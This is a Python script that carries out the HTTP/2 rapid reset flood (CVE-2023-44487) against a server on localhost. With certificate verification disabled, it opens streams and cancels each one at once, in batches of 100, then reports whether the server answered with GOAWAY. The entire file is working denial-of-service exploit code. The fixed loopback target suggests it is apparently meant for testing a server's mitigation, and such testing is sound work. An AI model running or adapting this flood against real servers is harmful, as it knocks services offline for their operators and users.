#!/usr/bin/env python3
"""flood.py PORT [PAIRS]: a rapid reset flood (CVE-2023-44487) against
the HTTP/2 server on 127.0.0.1:PORT (TLS, certificate not checked).

Opens streams and cancels each at once, HEADERS then RST_STREAM, PAIRS
times (2,000 by default), 100 pairs at a time, reading what the server
sends between batches. Stops at the server's GOAWAY or when it closes the
connection, and says how far it got."""

import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
from h2.errors import ErrorCodes

BATCH = 100


def connect(port):
    """A TLS connection to 127.0.0.1:port that agreed on h2 (ALPN)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)))
    if sock.selected_alpn_protocol() != "h2":
        sys.exit(f"flood.py: the server on port {port} did not agree on h2")
    return sock


def read_goaway(sock, conn):
    """Reads what the server sends within 50 ms and feeds it to conn: the
    server's GOAWAY (h2's ConnectionTerminated event) if it came, "closed"
    if the connection ended without one, else None."""
    sock.settimeout(0.05)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return "closed"
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return event
    except socket.timeout:
        return None
    except (ConnectionError, ssl.SSLError):
        return "closed"


def main():
    port = int(sys.argv[1])
    pairs = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
    sock = connect(port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]
    sent, goaway = 0, None
    while sent < pairs and goaway is None:
        # A batch: each stream opened and, before any answer, cancelled.
        for _ in range(min(BATCH, pairs - sent)):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, headers, end_stream=True)
            conn.reset_stream(stream_id, ErrorCodes.CANCEL)
            sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except (ConnectionError, ssl.SSLError):
            pass  # the server has closed: its GOAWAY may still be there to read
        goaway = read_goaway(sock, conn)
    print(f"streams opened and reset: {sent}")
    if not isinstance(goaway, h2.events.ConnectionTerminated):
        print("no GOAWAY from the server" + (", it closed the connection" if goaway else ""))
        return
    # The GOAWAY names the last stream the server took up: streams 1, 3, 5...
    taken = (goaway.last_stream_id + 1) // 2
    print(f"GOAWAY: {ErrorCodes(goaway.error_code).name}, after {taken} streams")


if __name__ == "__main__":
    main()
